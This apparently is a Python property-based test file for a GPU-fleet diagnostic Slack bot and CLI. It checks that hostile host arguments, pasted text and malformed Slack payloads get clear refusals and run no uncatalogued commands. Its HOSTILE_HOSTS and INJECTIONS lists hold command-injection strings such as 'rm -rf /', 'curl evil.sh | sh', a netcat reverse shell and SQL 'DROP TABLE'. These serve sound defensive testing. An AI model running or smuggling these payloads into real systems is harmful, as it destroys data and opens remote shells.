"""Property-based tests over everything a chat user controls: pasted text, slash-command text, host
arguments and Slack payloads. Nothing crashes, every refusal is a sentence, and the lab's audit log
shows that no command outside the catalog ever ran."""

from __future__ import annotations

import copy
import json
import logging
import urllib.parse
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from pitstop.app.authz import Policy
from pitstop.collectors.inventory import build
from pitstop.core.config import local_user
from pitstop.core.errors import PitstopError
from tests.bot.conftest import ALLOW_ALL, payload
from tests.bot.interactions import as_form, slash_command
from tests.security.lab_audit import AuditWatch
from tests.security.said import said
from tests.security.scale import examples

HOST = "h100-sxm5-healthy"  # a shipped lab scenario
HOSTILE_HOSTS = (
    "gpu1; rm -rf /",
    "$(reboot)",
    "`reboot`",
    "gpu1`id`",
    "gpu1\nreboot",
    "gpu1 && curl evil.sh | sh",
    "gpu1|nc -e /bin/sh 10.0.0.1 4444",
    "-oProxyCommand=sh",
    "--help",
    "../../etc/passwd",
    "gpu1>/etc/motd",
    "gpu[1-10000]",
    "gpu[0-99999999]",
    "gpu[1-100],node[1-100],x[1-900]",
    "gpu[1-",
    "gpu[5-1]",
    "gpu[a-b]",
    "gpu‐1",
    "gрu1",
    "ｇｐｕ１",
    "gpu1\u200b",
    "gpu1\u202e",
    "gpu1\x00",
    "@",
    "@nogroup",
    "*",
    "",
    " ",
    "[]",
    "a" * 10_000,
    "gpu1," * 2_000,
    f"{HOST};reboot",
    f"{HOST}$(reboot)",
    f"{HOST}\nreboot",
)
INJECTIONS = (
    "$(reboot)",
    "`rm -rf /`",
    "; shutdown -h now",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "'; DROP TABLE incidents; --",
    "\n/sbin/reboot\n",
    "${IFS}reboot",
    "dmesg -C",
    "nvidia-smi -r",
)
PASTES = st.one_of(
    st.text(max_size=3_000),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=500),
    st.lists(
        st.sampled_from(
            [
                "NCCL WARN",
                "Xid 79",
                "CUDA error",
                "显存不足",
                "训练卡住",
                "\x00",
                "\u202e",
                "```",
                "<script>",
                "&amp;",
                "0000:3b:00.0",
                "xoxb-1234567890-abcdefghij",
                *INJECTIONS,
            ]
        ),
        max_size=40,
    ).map(" ".join),
    st.binary(max_size=2_000).map(lambda b: b.decode("utf-8", errors="replace")),
)
SUPPRESS = [HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large]
FORM = "application/x-www-form-urlencoded"
BROKEN = ("Traceback", "Sorry, something went wrong", "Exception", 'File "/')


def assert_clear(text: str) -> None:
    """A message a person can read: not empty, no traceback, no internal error."""
    assert text.strip()
    for marker in BROKEN:
        assert marker not in text, text


# --- pasted text -> kb.ask ---


@pytest.fixture(scope="module")
def kb(kb_path: Path, embedder: Any, tmp_path_factory: pytest.TempPathFactory) -> Any:
    from pitstop.kb.service import KnowledgeBase
    from tests.bot.conftest import copy_kb

    path = copy_kb(kb_path, tmp_path_factory.mktemp("fuzz") / "pitstop.db")
    return KnowledgeBase.open(path, embedder=embedder)


@settings(max_examples=examples(40), deadline=None, database=None, suppress_health_check=SUPPRESS)
@given(text=PASTES)
def test_kb_ask_answers_or_refuses_clearly(kb: Any, text: str) -> None:
    try:
        answer = kb.ask(text, top=5)
    except PitstopError as exc:
        assert_clear(str(exc))
        return
    data = json.loads(json.dumps(answer.to_json(), ensure_ascii=False))
    assert len(data["results"]) <= 5 and answer.lang in ("en", "zh")
    assert all(0.0 <= m.score <= 1.0 and m.confidence in ("high", "medium", "low") for m in answer.results)


# --- host arguments -> inventory + policy (no network) ---

INVENTORY = build(
    {
        "ssh_config": False,
        "groups": {"a100": {}},
        "hosts": {"gpu[1-16]": {"groups": ["a100"]}, HOST: {"address": "127.0.0.2"}},
    }
)
OPEN = Policy.from_data(ALLOW_ALL)


@settings(max_examples=examples(300), deadline=None, database=None)
@given(
    expr=st.one_of(
        st.sampled_from(HOSTILE_HOSTS),
        st.text(max_size=80),
        st.lists(
            st.sampled_from([*HOSTILE_HOSTS[:12], "gpu1", "gpu[2-3]", "@a100", ",", "["]), max_size=6
        ).map("".join),
    )
)
def test_host_arguments_resolve_to_inventory_hosts_or_a_clear_refusal(expr: str) -> None:
    try:
        hosts = INVENTORY.select(expr)
    except PitstopError as exc:
        assert_clear(str(exc))
        assert len(str(exc)) < 400  # the refusal quotes at most a bounded part of the input
        return
    assert hosts and all(INVENTORY.hosts.get(h.name) is h or h.is_local for h in hosts)
    decision = OPEN.authorize(user="U1", channel="C1", hosts=hosts, origin="slack")
    assert decision.allowed or "at most" in str(decision.reason)


@pytest.mark.lab
@pytest.mark.parametrize("expr", HOSTILE_HOSTS[:24])
def test_cli_diagnose_with_hostile_hosts_runs_nothing(lab_fleet, tmp_path, capsys, expr) -> None:
    from pitstop.cli.main import main

    watch = AuditWatch(lab_fleet.audit_log)
    (tmp_path / "policy.yaml").write_text(
        json.dumps({"rules": [{"users": [local_user()], "hosts": ["*"]}], "rate_limit": {"burst": 0}})
    )
    code = main(
        [
            "diagnose",
            "--inventory",
            str(lab_fleet.inventory),
            "--policy",
            str(tmp_path / "policy.yaml"),
            "--db",
            str(tmp_path / "cli.db"),
            "--",
            expr,
        ]
    )
    err = capsys.readouterr().err
    assert code in (2, 3, 4) and err.startswith("pitstop: ")
    assert_clear(err)
    assert watch.new_commands() == []


# --- slash-command text and Slack payloads -> the real Bolt HTTP app ---


@pytest.fixture(scope="module")
def lab_watch(lab_fleet) -> AuditWatch:
    """Where the lab audit log stood before this module's Slack tests."""
    return AuditWatch(lab_fleet.audit_log)


class Bot:
    """The served app, with a short repr (hypothesis prints its arguments when an example fails)."""

    def __init__(self, running: Any) -> None:
        self.running = running

    def __getattr__(self, name: str) -> Any:
        return getattr(self.running, name)

    def __repr__(self) -> str:
        return f"Bot({self.running.url})"


@pytest.fixture
def lab_bot(serve_app, lab_inventory) -> Bot:
    return Bot(serve_app(policy=ALLOW_ALL, inventory=lab_inventory))


def _settle(bot: Bot, expect_answer: bool) -> None:
    """Wait for the listener's background work: Bolt answers the HTTP request before it is queued."""
    with bot.recorder.lock:
        bot.recorder.lock.wait_for(
            lambda: any(c.method != "auth.test" for c in bot.recorder.calls),
            timeout=30 if expect_answer else 0.25,
        )
    bot.idle()


def _said(bot) -> list[str]:
    """Everything the bot told people since the recorder was cleared."""
    return [text for _, text in said(bot.recorder.calls)]


@pytest.mark.lab
@settings(max_examples=examples(30), deadline=None, database=None, suppress_health_check=SUPPRESS)
@given(
    text=st.one_of(
        st.sampled_from(HOSTILE_HOSTS).map(lambda h: h.replace("\n", " ")),
        st.tuples(st.sampled_from(HOSTILE_HOSTS), st.sampled_from(INJECTIONS)).map(" ".join),
        st.text(max_size=200),
    )
)
def test_slash_command_text_never_breaks_the_bot(lab_bot, lab_watch, shared_dir, text: str) -> None:
    lab_bot.recorder.clear()
    form = slash_command(shared_dir, text, response_url=lab_bot.recorder.url + "/respond/1")
    status, body = lab_bot.send(form, content_type=FORM)
    assert status == 200
    assert "Traceback" not in body
    _settle(lab_bot, expect_answer=not body.strip())
    said = _said(lab_bot)
    assert said or body.strip(), "every request gets an answer: a usage hint, a refusal or a result"
    for text_sent in said:
        assert_clear(text_sent)
    assert lab_watch.violations() == []


@pytest.mark.lab
@pytest.mark.parametrize("injection", INJECTIONS)
def test_injections_in_the_error_text_run_only_catalog_commands(
    lab_bot, lab_watch, shared_dir, injection: str
) -> None:
    watch = AuditWatch(lab_watch.log)
    text = f"{HOST} NCCL WARN Cuda failure 'unknown error' {injection}"
    assert (
        lab_bot.send(
            slash_command(shared_dir, text, response_url=lab_bot.recorder.url + "/respond/1"),
            content_type=FORM,
        )[0]
        == 200
    )
    _settle(lab_bot, expect_answer=True)
    ran = watch.new_commands()
    checkable = any(p.checks for p in lab_bot.services.kb.all())
    assert ran or not checkable, f"the host was not checked; the bot said: {_said(lab_bot)}"
    assert watch.violations() == []
    assert not any(word in c for c in ran for word in ("reboot", "rm ", "shutdown", "DROP", "nc "))


def _mutations() -> st.SearchStrategy[tuple[str, list[str], Any]]:
    """(payload file, key path to change, new value or the sentinel `DELETE`)."""
    files = [
        "bolt-app-mention.json",
        "bolt-message-channel-rich-text.json",
        "bolt-block-actions-button.json",
        "bolt-view-submission.json",
        "bolt-message-changed.json",
        "bolt-message-from-bot-bot_id.json",
    ]
    keys = [
        "type",
        "event",
        "text",
        "user",
        "channel",
        "ts",
        "thread_ts",
        "event_id",
        "actions",
        "view",
        "callback_id",
        "private_metadata",
        "state",
        "values",
        "team_id",
        "api_app_id",
        "blocks",
        "subtype",
        "team",
        "container",
        "message",
        "action_id",
        "value",
        "trigger_id",
        "bot_id",
    ]
    values = st.one_of(
        st.just("DELETE"),
        st.none(),
        st.integers(),
        st.booleans(),
        st.just([]),
        st.just({}),
        st.text(max_size=50),
        st.just("x" * 5_000),
        st.just([None, {}, 1]),
    )
    return st.tuples(st.sampled_from(files), st.lists(st.sampled_from(keys), min_size=1, max_size=3), values)


def _mutate(body: Any, path: list[str], value: Any) -> Any:
    """Apply the change at the first place in `body` where the key path leads (depth-first)."""
    if isinstance(body, dict):
        if path[0] in body:
            if len(path) == 1:
                if value == "DELETE":
                    del body[path[0]]
                else:
                    body[path[0]] = value
                return body
            _mutate(body[path[0]], path[1:], value)
        for child in body.values():
            _mutate(child, path, value)
    elif isinstance(body, list):
        for child in body:
            _mutate(child, path, value)
    return body


@pytest.mark.lab
@settings(max_examples=examples(40), deadline=None, database=None, suppress_health_check=SUPPRESS)
@given(change=_mutations())
@example(change=("bolt-app-mention.json", ["event"], None))  # once answered 500 by Bolt
@example(change=("bolt-block-actions-button.json", ["actions"], None))
def test_signed_payloads_with_missing_or_wrong_fields(lab_bot, lab_watch, shared_dir, caplog, change) -> None:
    name, path, value = change
    body = _mutate(copy.deepcopy(payload(shared_dir, name)), path, value)
    lab_bot.recorder.clear()
    interactive = isinstance(body, dict) and body.get("type") in ("block_actions", "view_submission")
    raw = as_form(body) if interactive else json.dumps(body)
    with caplog.at_level(logging.INFO):
        status, answer = lab_bot.send(raw, content_type=FORM if interactive else "application/json")
        _settle(lab_bot, expect_answer=False)
    assert status in (200, 400, 401, 404), (status, answer)
    assert "Traceback" not in answer
    for text_sent in _said(lab_bot):
        assert_clear(text_sent)
    assert lab_watch.violations() == []


def test_failed_signature_logs_no_body(serve_app, shared_dir, caplog) -> None:
    """Bolt logs the raw body of a request whose signature fails; Pitstop keeps it out of every log."""
    marker = "xoxb-99999999-SECRETMARKER"
    raw = slash_command(shared_dir, f"gpu1 {marker}", response_url="http://127.0.0.1:9/x")
    with caplog.at_level(logging.DEBUG):
        bot = serve_app()  # Bolt's loggers take the root level when the app is built
        assert bot.send(raw, content_type=FORM, secret="wrong-secret")[0] == 401
        assert bot.send(urllib.parse.quote(raw), content_type=FORM, secret="wrong-secret")[0] == 401
    assert "Invalid request signature" in caplog.text  # the event is still logged ...
    assert "SECRETMARKER" not in caplog.text and "SECRETMARKER" not in "".join(_said(bot))  # ... not the body
